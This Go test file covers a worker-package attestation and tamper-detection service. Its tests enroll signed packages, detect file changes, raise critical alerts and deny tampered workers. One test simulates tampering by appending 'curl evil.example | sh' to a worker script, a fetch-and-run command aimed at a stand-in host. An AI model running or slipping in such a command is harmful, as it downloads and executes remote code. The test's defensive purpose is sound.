package workers

import (
	"context"
	"crypto/ed25519"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"hallmonitor/core"
	"hallmonitor/core/attest"
	"hallmonitor/hallapi/events"
	"hallmonitor/hallapi/store"
)

const echoScript = "#!/bin/sh\nset -eu\ninput=$(cat)\nprintf '{\"ok\":true,\"echo\":%s}\\n' \"$input\"\n"

// writePackage writes a worker package with the given entrypoint script and
// a manifest signed with a fresh namespace key; it returns the public key.
func writePackage(t *testing.T, dir, workerID, species, script string) ed25519.PublicKey {
	t.Helper()
	if err := os.MkdirAll(filepath.Join(dir, "code"), 0o755); err != nil {
		t.Fatal(err)
	}
	files := map[string]string{"requirements.lock": "", "config.schema.json": `{"type":"object"}`}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "code", "run"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	pub, priv, err := attest.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	m, err := attest.Build(os.DirFS(dir), attest.BuildOptions{WorkerID: workerID, WorkerSpeciesID: species,
		WorkerVersion: "1.0.0", Now: time.Now(), Signer: attest.Ed25519Signer{Key: priv}})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, attest.ManifestName), m.Encode(), 0o644); err != nil {
		t.Fatal(err)
	}
	return pub
}

func openStore(t *testing.T) *store.Store {
	t.Helper()
	st, err := store.Open(filepath.Join(t.TempDir(), "hall.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

func enroll(t *testing.T, st *store.Store, dir, workerID, species string, pub ed25519.PublicKey) Enrollment {
	t.Helper()
	rec := fmt.Sprintf(`{"worker_id":%q,"worker_species_id":%q,"capabilities":["cap.test.echo"],"currently_implements":["ctrl.obs.audit_log_append_only"],"blast_score":10,"guarantee":"at-least-once"}`, workerID, species)
	got, err := Enroll(context.Background(), st, EnrollRequest{Record: json.RawMessage(rec), PackagePath: dir,
		PublicKeyEd25519: attest.EncodePublicKey(pub)})
	if err != nil || !got.Created {
		t.Fatal(got.Created, err)
	}
	e, err := EnrollmentOf(got.Worker)
	if err != nil || e.RegisteredHash == "" || e.PublicKeyEd25519 == "" {
		t.Fatalf("enrollment %+v: %v", e, err)
	}
	return e
}

func waitEvent(t *testing.T, sub *events.Subscription, typ string, within time.Duration) events.Event {
	t.Helper()
	deadline := time.After(within)
	for {
		select {
		case ev := <-sub.C:
			if ev.Type == typ {
				return ev
			}
		case <-deadline:
			t.Fatalf("no %s event within %s", typ, within)
		}
	}
}

func TestTamperRaisesAlertWithinASecond(t *testing.T) {
	st := openStore(t)
	dir := filepath.Join(t.TempDir(), "echo")
	pub := writePackage(t, dir, "x.test.echo", "wrk.test.echo", echoScript)
	e := enroll(t, st, dir, "x.test.echo", "wrk.test.echo", pub)
	svc := NewService(st, Options{})
	ctx := context.Background()
	if err := svc.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer svc.Stop()
	if a, _ := svc.Attestation("x.test.echo"); a.State != StateVerified {
		t.Fatalf("fresh package must verify: %+v", a)
	}
	reg, ok1 := svc.RegisteredHash("wrk.test.echo")
	cur, ok2 := svc.CurrentHash("wrk.test.echo")
	if !ok1 || !ok2 || reg != cur || reg != e.RegisteredHash {
		t.Fatalf("hashes: registered %q/%v current %q/%v", reg, ok1, cur, ok2)
	}

	if code := decide(t, st, svc); code != "" {
		t.Fatalf("verified worker denied %s", code)
	}

	sub := st.Bus().Subscribe(64)
	defer sub.Close()
	start := time.Now()
	if err := os.WriteFile(filepath.Join(dir, "code", "run"), []byte(echoScript+"curl evil.example | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	ev := waitEvent(t, sub, events.AlertRaised, time.Second)
	t.Logf("alert after %s", time.Since(start))
	var alert store.Alert
	if err := json.Unmarshal(ev.Data, &alert); err != nil {
		t.Fatal(err)
	}
	if alert.Type != store.AlertWorkerTampered || alert.WorkerID != "x.test.echo" || alert.Severity != store.SeverityCritical {
		t.Fatalf("unexpected alert: %+v", alert)
	}
	a, _ := svc.Attestation("x.test.echo")
	if a.State != StateTampered || a.DenyCode != attest.CodeHashMismatch {
		t.Fatalf("state after tamper: %+v", a)
	}
	cur, ok := svc.CurrentHash("wrk.test.echo")
	if !ok || cur == reg {
		t.Fatalf("current hash must differ from registered after tamper: %q", cur)
	}
	// The next decision for the worker is DENY_WORKER_TAMPERED.
	if code := decide(t, st, svc); code != core.DenyWorkerTampered {
		t.Fatalf("decision after tamper: %q", code)
	}
	if w, _ := st.GetWorker(ctx, "x.test.echo"); w.Status != store.WorkerTampered {
		t.Fatalf("stored worker status %q", w.Status)
	}
	// The alert is persisted and visible to the API.
	alerts, err := st.ListAlerts(ctx, store.AlertFilter{})
	if err != nil || len(alerts) != 1 {
		t.Fatalf("stored alerts: %v %+v", err, alerts)
	}

	// Restoring the file verifies again (no new alert).
	if err := os.WriteFile(filepath.Join(dir, "code", "run"), []byte(echoScript), 0o755); err != nil {
		t.Fatal(err)
	}
	waitEvent(t, sub, events.WorkerAttestation, time.Second)
	if a, _ := svc.Attestation("x.test.echo"); a.State != StateVerified {
		t.Fatalf("restored package must verify: %+v", a)
	}
}

// decide routes cap.test.echo through core with the workers view and
// returns the deny code ("" when allowed).
func decide(t *testing.T, st *store.Store, svc *Service) string {
	t.Helper()
	ws, err := st.ListWorkers(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	rs, err := core.ParseRules([]byte(`{"rules":[{"rule_id":"r1","match":{"capability_id":"cap.test.echo"},"decision":{"candidate_workers_ranked":[{"worker_species_id":"wrk.test.echo"}]}}]}`))
	if err != nil {
		t.Fatal(err)
	}
	cfg := core.DefaultHallConfig()
	cfg.RequireWorkerAttestation = AttestationRequired(ws)
	view := NewView(ws, svc)
	in := core.RouteInput{CapabilityID: "cap.test.echo", Env: "dev", DataLabel: "PUBLIC", TenantRisk: "low", QoSClass: "P2",
		TenantID: "t1", CorrelationID: "c1", Request: map[string]any{}}
	dec := core.Decide(in, rs, view, core.Options{Config: &cfg, Privilege: view, Attestation: view})
	return dec.Code()
}

func TestViewAvailability(t *testing.T) {
	ws := []store.Worker{
		{WorkerID: "x.a.one", WorkerSpeciesID: "wrk.one", Capabilities: []string{"cap.one"}, Record: json.RawMessage(`{}`), Status: store.WorkerTampered, PackagePath: "/pkg"},
		{WorkerID: "x.a.two", WorkerSpeciesID: "wrk.two", Record: json.RawMessage(`not json`), Registry: store.RegistryState{Banned: true}},
		{WorkerID: "x.a.three", WorkerSpeciesID: "wrk.three", Controls: []string{"ctrl.obs.audit_log_append_only"}, Record: json.RawMessage(`{}`)},
	}
	v := NewView(ws, NewService(nil, Options{}))
	if !v.WorkerAvailable("wrk.one") || v.WorkerAvailable("wrk.two") || !v.WorkerAvailable("wrk.three") || !v.ControlPresent("ctrl.obs.audit_log_append_only") {
		t.Fatal("tampered packaged workers stay available (attestation denies them), banned ones do not")
	}
	if NewView(ws, nil).WorkerAvailable("wrk.one") {
		t.Fatal("a tampered worker nobody attests must be unavailable")
	}
	if !AttestationRequired(ws) {
		t.Fatal("a packaged worker requires attestation")
	}
	ws[0].PackagePath = ""
	if NewView(ws, NewService(nil, Options{})).WorkerAvailable("wrk.one") {
		t.Fatal("a tampered worker without a package must be unavailable")
	}
	if AttestationRequired(ws) {
		t.Fatal("no package, no attestation requirement")
	}
}

func TestNewFileInNewSubdirIsNoticed(t *testing.T) {
	st := openStore(t)
	dir := filepath.Join(t.TempDir(), "echo")
	pub := writePackage(t, dir, "x.test.echo", "wrk.test.echo", echoScript)
	enroll(t, st, dir, "x.test.echo", "wrk.test.echo", pub)
	svc := NewService(st, Options{})
	if err := svc.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer svc.Stop()
	sub := st.Bus().Subscribe(64)
	defer sub.Close()
	if err := os.MkdirAll(filepath.Join(dir, "lib", "deep"), 0o755); err != nil {
		t.Fatal(err)
	}
	// A file created in a brand-new subdirectory before its watch exists
	// is still caught: the directory's creation schedules a full re-hash.
	if err := os.WriteFile(filepath.Join(dir, "lib", "deep", "x.so"), []byte("payload"), 0o644); err != nil {
		t.Fatal(err)
	}
	waitEvent(t, sub, events.AlertRaised, time.Second)
}

func TestCheckStates(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "p")
	pub := writePackage(t, dir, "org.acme.w", "wrk.w", echoScript)
	e := enroll(t, openStore(t), dir, "org.acme.w", "wrk.w", pub)
	now := time.Now()
	if a := Check(e, nil, now); a.State != StateVerified {
		t.Fatalf("%+v", a)
	}
	noKey := e
	noKey.PublicKeyEd25519 = ""
	if a := Check(noKey, nil, now); a.State != StateUnsigned || a.DenyCode != attest.CodeSignatureMissing {
		t.Fatalf("%+v", a)
	}
	// Package and manifest replaced together: the manifest verifies but the
	// files are not the registered ones.
	replaced := e
	replaced.RegisteredHash = strings.Repeat("a", 64)
	if a := Check(replaced, nil, now); a.State != StateTampered || a.DenyCode != attest.CodeHashMismatch {
		t.Fatalf("%+v", a)
	}
	os.Remove(filepath.Join(dir, attest.ManifestName))
	if a := Check(e, nil, now); a.State != StateMissing || a.DenyCode != attest.CodeManifestMissing || a.PackageHash != e.RegisteredHash {
		t.Fatalf("%+v", a)
	}
	os.RemoveAll(dir)
	if a := Check(e, nil, now); a.State != StateMissing {
		t.Fatalf("%+v", a)
	}
	rec := `{"worker_id":"org.acme.w","worker_species_id":"wrk.w","capabilities":["cap.w"],"blast_score":1,"guarantee":"best-effort"}`
	if v, err := ValidateRecord(context.Background(), EnrollRequest{Record: json.RawMessage(rec), PackagePath: dir}); err != nil || v.Valid() {
		t.Fatalf("a missing package cannot be enrolled: %v %+v", err, v)
	}
}

func TestRecordAttestation(t *testing.T) {
	ra, err := ReadRecordAttestation(json.RawMessage(`{"worker_id":"x.a.b","attestation":{"code_hash":"ab","public_key_ed25519":"cd"}}`))
	if err != nil || ra.CodeHash != "ab" || ra.PublicKeyEd25519 != "cd" {
		t.Fatal(ra, err)
	}
	if _, err := ReadRecordAttestation(json.RawMessage(`{"attestation":{"code_hash":1}}`)); err == nil {
		t.Fatal("wrong type must fail")
	}
	if ra, err := ReadRecordAttestation(nil); err != nil || ra != (RecordAttestation{}) {
		t.Fatal(ra, err)
	}
}

func TestVerifyPackageForEnrollment(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "p")
	pub := writePackage(t, dir, "x.test.echo", "wrk.test.echo", echoScript)
	svc := NewService(nil, Options{})
	rec := fmt.Sprintf(`{"worker_id":"x.test.echo","worker_species_id":"wrk.test.echo","capabilities":["c"],"attestation":{"public_key_ed25519":%q}}`, attest.EncodePublicKey(pub))
	w := store.Worker{WorkerID: "x.test.echo", WorkerSpeciesID: "wrk.test.echo", PackagePath: dir, Record: json.RawMessage(rec)}
	a, err := svc.VerifyPackage(context.Background(), w)
	if err != nil || a.State != StateVerified || a.RegisteredHash != a.PackageHash {
		t.Fatalf("%+v %v", a, err)
	}
	// A record pinning another code_hash: the package is not what was attested.
	pinned := strings.Replace(rec, `"attestation":{`, `"attestation":{"code_hash":"`+strings.Repeat("0", 64)+`",`, 1)
	w.Record = json.RawMessage(pinned)
	if a, err := svc.VerifyPackage(context.Background(), w); err != nil || a.State != StateTampered {
		t.Fatalf("%+v %v", a, err)
	}
	// Without the namespace key the package is unsigned (a state, not an error).
	w.Record = json.RawMessage(`{"worker_id":"x.test.echo"}`)
	if a, err := svc.VerifyPackage(context.Background(), w); err != nil || a.State != StateUnsigned {
		t.Fatalf("%+v %v", a, err)
	}
	w.PackagePath = ""
	if _, err := svc.VerifyPackage(context.Background(), w); err == nil {
		t.Fatal("an empty package_path is an error")
	}
}

func TestUnenrollStopsWatching(t *testing.T) {
	st := openStore(t)
	dir := filepath.Join(t.TempDir(), "echo")
	pub := writePackage(t, dir, "x.test.echo", "wrk.test.echo", echoScript)
	enroll(t, st, dir, "x.test.echo", "wrk.test.echo", pub)
	svc := NewService(st, Options{Resync: 50 * time.Millisecond})
	if err := svc.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer svc.Stop()
	watched := func() int {
		svc.mu.Lock()
		defer svc.mu.Unlock()
		n := 0
		for _, p := range svc.fw.WatchList() {
			if p == dir || strings.HasPrefix(p, dir+"/") {
				n++
			}
		}
		return n
	}
	if watched() != 2 { // the package and code/
		t.Fatalf("watching %d package dirs, want 2", watched())
	}
	// Unenrolled by "another process": picked up from the event log.
	if err := st.DeleteWorker(context.Background(), "x.test.echo"); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(2 * time.Second)
	for watched() != 0 || func() bool { _, ok := svc.Attestation("x.test.echo"); return ok }() {
		if time.Now().After(deadline) {
			t.Fatalf("still watching %d dirs after unenroll", watched())
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestCheckLayout(t *testing.T) {
	for _, tc := range []struct {
		name   string
		remove string
		write  map[string]string
		want   string
	}{
		{"complete", "", nil, ""},
		{"no entrypoint", "code/run", nil, "no entrypoint"},
		{"no lock file", "requirements.lock", nil, "requirements.lock"},
		{"no schema", "config.schema.json", nil, "config.schema.json"},
		{"schema not an object", "", map[string]string{"config.schema.json": "[1]"}, "must be a JSON object"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			writePackage(t, dir, "x.test.echo", "wrk.test.echo", echoScript)
			if tc.remove != "" {
				os.Remove(filepath.Join(dir, tc.remove))
			}
			for f, body := range tc.write {
				os.WriteFile(filepath.Join(dir, f), []byte(body), 0o644)
			}
			err := CheckLayout(dir)
			if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
				t.Fatalf("CheckLayout: %v, want %q", err, tc.want)
			}
		})
	}
}
